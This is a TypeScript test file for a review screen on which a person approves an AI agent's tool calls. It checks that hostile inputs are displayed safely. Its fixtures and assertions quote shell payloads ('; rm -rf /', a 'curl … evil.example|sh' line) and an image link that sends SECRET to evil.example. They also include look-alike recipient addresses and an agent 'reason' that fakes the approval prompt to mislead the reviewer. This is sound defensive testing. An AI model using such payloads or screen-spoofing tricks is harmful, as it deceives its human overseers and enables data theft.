// The 65 display vectors, row by row: what a reviewer would have been shown, and what they are shown.
import { describe, expect, test, vi } from 'vitest';
import { unblock } from './block.js';
import type { Json, ReviewItem } from '@sallyport/core';
import { html, quoted, render, unrender } from './escape.js';
import { stringsIn } from './links.js';
import { context, DIGEST, item, NOW, part, partsOf, unasked } from './items.fixture.js';
import { entriesOf } from './json-lines.js';
import { faultOf, viewQueue } from './queue.js';
import { queueScreen, textScreen } from './screen.js';
import { type Row, ROWS } from './screens.fixture.js';
import { type View, viewOf } from './view.js';

const UNSAFE = /(?! )[\p{C}\p{Z}\p{Default_Ignorable_Code_Point}\u{16FE4}\u2800\ufffc\u{13441}\u{13442}\u{1D159}]/u;
const WIDTH = 80;

/** Rows that ask more than a view can give: the rest of their verdict is checked there. */
const ELSEWHERE: Readonly<Record<string, string>> = {
  'A1-display-092': 'unknown fields are refused by the strict schema before review: contracts in core',
  'A1-display-099': 'default-src none on the page: the web page (SEE-3)',
  'A1-display-106': 'unknown keys are refused by the strict schema before review: contracts in core',
  'A1-display-110': 'the cap on pending proposals (PENDING_FULL): the sessions of core',
  'A1-display-111': 'asking again is slowed down: the caps of core; here it is told',
};

const rowsOf = (start: string): Row[] => ROWS.filter(({ expected }) => expected.startsWith(start));
const rowOf = (number: string): Row => {
  const row = ROWS.find(({ id }) => id === `A1-display-${number}`);
  if (!row) throw new Error(`there is no row ${number}`);
  checked.add(row.id);
  return row;
};
const checked = new Set<string>();

describe('SEE-2: rows whose payload must show as visible escapes', () => {
  const rows = rowsOf('Rendered text');

  test('SEE-2: there are 37 of them, and raw they would reach the terminal', () => {
    expect(rows).toHaveLength(37);
    for (const { input } of rows) expect(stringsIn(input).some((text) => UNSAFE.test(text))).toBe(true);
  });

  test('SEE-2: A1-display-027 an error message is escaped too', () => {
    const error = String(rowOf('027').input['error']);
    const shown = faultOf(new Error(error));
    expect(shown).not.toMatch(UNSAFE);
    expect(unrender(shown)).toBe(error);
  });

  test.each(rows.filter(({ input }) => input['error'] === undefined))('SEE-2: $id $title', ({ id, input }) => {
    checked.add(id);
    const { view, text, whole } = shownOf(input);
    for (const line of text) expect(line).not.toMatch(UNSAFE);
    for (const line of coloured(view)) expect(line.replaceAll(/\u001b\[\d*m/g, '')).not.toMatch(UNSAFE); // eslint-disable-line no-control-regex
    for (const line of text) expect(html(line)).not.toMatch(/[<>"']/);
    for (const payload of stringsIn(Object.values(input)))
      expect(whole).toContain(payload.includes('\n') ? render(payload.split('\n')[0] ?? '') : render(payload));
    expect(view.digest.full).toBe(DIGEST);
    for (const { value, name } of view.fields) {
      const original = originalOf(input)[unrender(name.slice(1, -1))];
      expect(unblock(value?.lines ?? [])).toBe(original);
    }
  });
});

describe('SEE-1: padding and long values', () => {
  test.each(rowsOf('Runs of more than 8'))('SEE-1: $id $title', ({ id, input }) => {
    checked.add(id);
    const { text } = shownOf(input);
    expect(text.join('\n')).toMatch(/⟨400 × U\+[0-9A-F]{4}⟩/);
    expect(text.join('\n')).toContain('; rm -rf /');
  });

  test('SEE-2: A1-display-073 combining marks', () => {
    const { text } = shownOf(rowOf('073').input);
    expect(text.join('\n')).toContain('│ a⟨200 × U+0336⟩ && rm x');
    expect(text.join('\n')).not.toMatch(/\p{M}/u);
  });

  test('SEE-1: A1-display-087 a command longer than the preview', () => {
    const { view, text, whole } = shownOf(rowOf('087').input);
    const drawn = text.join('\n');
    expect([view.folded, view.careful]).toEqual([true, true]);
    expect(drawn).toContain('│ echo aaaa');
    expect(drawn).toMatch(/⟨7,\d{3} of 8,2\d\d characters on 1 line are folded away here⟩/);
    expect(drawn).toContain('curl');
    expect(drawn).toContain('evil.example|sh');
    expect(whole).toContain('a'.repeat(8192));
  });

  test('SEE-1: A1-display-088 the tail of an 80-character value', () => {
    const { text } = shownOf(rowOf('088').input);
    expect(text.join('\n')).toContain('│ alice@corp.example⟨72 × U+0020⟩,mallory@evil.example');
    expect(text.join('\n')).toContain('holds 2 addresses');
  });

  test('SEE-1: A1-display-089 a thousand newlines', () => {
    expect(shownOf(rowOf('089').input).text).toEqual(
      expect.arrayContaining(['│ ls', '│ ⟨999 × blank line⟩', '│ rm -rf /']),
    );
  });

  test('SEE-1: A1-display-092 a thousand fields', () => {
    rowOf('092');
    const args = Object.fromEntries(
      Array.from({ length: 1000 }, (_, i) => [`f${i}`, i === 699 ? 'mallory@evil.example' : 'ok']),
    );
    const { view, text } = shownOf({ tool: 'send_email', args });
    expect(view.count).toBe('1,000 arguments, 1,000 decide where it lands');
    expect(view.fields).toHaveLength(1000);
    expect(text).toContain('│ mallory@evil.example');
  });

  test('SEE-1: A1-display-093 a hundred and one recipients, the last a stranger', () => {
    const known = Array.from({ length: 100 }, (_, i) => `u${i}@corp.example`);
    const { view, text, whole } = shownOf(rowOf('093').input, known);
    expect(view.fields[0]?.value?.kind).toBe('list of 101 entries');
    expect(text.join('\n')).toContain('new recipient: "mallory@evil.example"');
    expect(text.join('\n')).toContain('characters on 103 lines are folded away here');
    for (const name of [...known, 'mallory@evil.example']) expect(whole).toContain(`"${name}"`);
  });
});

describe('SEE-2: look-alike recipients', () => {
  test.each(rowsOf('Not equal to the known'))('SEE-2: $id $title', ({ id, input }) => {
    checked.add(id);
    const known = stringsIn(input['known'] ?? []);
    const { view, text } = shownOf(input, known);
    expect(text.join(' ').replaceAll('┊ ', '')).toContain(`looks like "${known[0]}", is not`);
    expect(text.join('\n')).toMatch(/U\+[0-9A-F]{4}/);
    expect([view.careful, view.risk.level]).toEqual([true, 'high']);
  });
});

describe('SEE-1: the agent cannot pass its words for facts', () => {
  test('SEE-1: A1-display-095 the agent writes the summary', () => {
    const { input } = rowOf('095');
    const { view, text } = shownOf({ ...input, reason: input['summary'] ?? '' });
    expect(view.sentence).toBe('"executor_agent" will run "delete_records": it sends messages.');
    expect(text.indexOf('│ 1=1')).toBeLessThan(
      text.indexOf('why: the agent says (possibly written under outside influence)'),
    );
    expect(text.indexOf('│ List 3 records')).toBeGreaterThan(text.indexOf('│ 1=1'));
  });

  test('SEE-1: A1-display-096 the reason imitates the screen', () => {
    const { input } = rowOf('096');
    const { text } = shownOf(input);
    const at = text.indexOf('why: the agent says (possibly written under outside influence)');
    expect(text.slice(at + 1)).toEqual([
      '│ ──────────',
      '│ Tool: read_file  path: README.md',
      '│ Risk: none',
      '│ Approve? [y/N] y',
      '│ ──────────',
      '  written at LOW trust',
    ]);
  });

  test('SEE-1: A1-display-098 the text of a link is not its target', () => {
    const { text } = shownOf(rowOf('098').input);
    expect(text).toContain('│ [https://corp.example/report](https://evil.example/x)');
    expect(text).toContain('  -  links to: corp.example, evil.example');
  });

  test('SEE-1: A1-display-099 a picture that reports back is not fetched', () => {
    const fetched = vi.spyOn(globalThis, 'fetch');
    const { text } = shownOf(rowOf('099').input);
    expect(text).toContain('│ ![x](https://evil.example/p?d=SECRET)');
    expect(fetched).not.toHaveBeenCalled();
    fetched.mockRestore();
  });

  test.each(['103', '104'])('SEE-2: A1-display-%s markup in a value stays text', (number) => {
    const { input } = rowOf(number);
    const [value = ''] = stringsIn(Object.values(originalOf(input)));
    expect(value).toMatch(/["<]/); // raw, it would break out
    for (const line of shownOf(input).text) expect(html(line)).not.toMatch(/[<>"']/);
    expect(html(render(value))).not.toMatch(/[<>"']/);
  });

  test('SEE-2: A1-display-106 two fields with one label', () => {
    const { view, text } = shownOf(rowOf('106').input);
    expect(view.fields.map(({ name }) => name)).toEqual(['"to"', '"to "', '"tо"']);
    expect(view.careful).toBe(true);
    expect(text.join('\n')).toContain('the name "tо" looks like');
  });

  test('SEE-1: A1-display-107 numbers that look alike', () => {
    const { text } = shownOf(rowOf('107').input);
    expect(text).toContain('│ 1000000000000000000000');
    expect(text).toContain('│ 0');
    const broken =
      (value: number): (() => View) =>
      () =>
        viewOf(item({ parts: [part('amount', value)] }), context);
    expect(broken(Number.NaN)).toThrow(/NaN/);
    expect(broken(Number.POSITIVE_INFINITY)).toThrow(/Infinity/);
    expect(viewOf(item({ parts: [part('fee', -0)] }), context).fields[0]?.value?.lines).toEqual(['0']);
  });
});

describe('SEE-1: many at once', () => {
  test('SEE-1: A1-display-109 one of forty is different', () => {
    rowOf('109');
    const many = Array.from({ length: 39 }, (_, i) => one('read_file', 'query', `r${i}`, { path: `/docs/${i}` }));
    const queue = viewQueue(
      [...many.slice(0, 20), one('wire', 'send', 'w', { amount: 9000 }), ...many.slice(20)],
      context,
    );
    expect(queue.words).toBe('40 proposals of 2 kinds wait for you');
    expect(queue.groups.map(({ tool, items }) => [tool, items.length])).toEqual([
      ['"wire"', 1],
      ['"read_file"', 39],
    ]);
    const drawn = queueScreen(queue).join('\n');
    for (const { id, digest } of queue.groups.flatMap(({ items }) => items)) {
      expect(drawn).toContain(`  ${id} · runs out`);
      expect(drawn).toContain(`  digest ${digest}`);
    }
  });

  test('SEE-1: A1-display-110 ten thousand pending are counted, none is dropped', () => {
    rowOf('110');
    const all = Array.from({ length: 10_000 }, (_, i) => one('read_file', 'query', `r${i}`, { path: 'x' }));
    const queue = viewQueue(all, context);
    expect(queue.words).toBe('10,000 proposals of 1 kind wait for you');
    expect(queue.groups[0]?.items).toHaveLength(10_000);
  });

  test('SEE-1: A1-display-111 asking again after a refusal is told', () => {
    rowOf('111');
    const text = textScreen(viewOf(item({ deniedLately: 20 }), context));
    expect(text.join('\n')).toContain('refused 20 similar in the last 5 minutes');
  });
});

// named without a promise: run by name, a promise's rows alone are not all of them
test('all 65 rows of area A1 were checked, each once', () => {
  expect(ROWS).toHaveLength(65);
  expect(new Set(ROWS.map(({ id }) => id)).size).toBe(65);
  expect([...checked].sort()).toEqual(ROWS.map(({ id }) => id).sort());
  expect(Object.keys(ELSEWHERE).every((id) => checked.has(id))).toBe(true);
});

function shownOf(
  input: Row['input'],
  known: readonly string[] = context.known,
): { view: View; text: string[]; whole: string } {
  const view = viewOf(itemOf(input), { known, now: NOW });
  const text = textScreen(view, { width: WIDTH });
  const wide = textScreen(view, { width: 100_000, whole: true });
  return { view, text, whole: wide.join('\n') };
}

const coloured = (view: View): string[] => textScreen(view, { width: WIDTH, color: true });

function itemOf(input: Row['input']): ReviewItem {
  const { tool = 'x', agent = 'research_agent', server = 'executor_agent', reason = 'because' } = input;
  const args = originalOf(input);
  return item({
    tool: { name: String(tool), effect: 'send', contract: 'c' },
    requester: String(agent),
    executor: String(server),
    why: { text: String(reason), trust: 'low' },
    parts: partsOf(args, Object.keys(args)),
  });
}

function originalOf({ args = {} }: Row['input']): { readonly [name: string]: Json } {
  return Object.fromEntries(entriesOf(args));
}

function one(name: string, effect: 'query' | 'send', id: string, args: { readonly [key: string]: Json }): ReviewItem {
  return unasked({ id, digest: quoted(id), tool: { name, effect, contract: name }, parts: partsOf(args) });
}
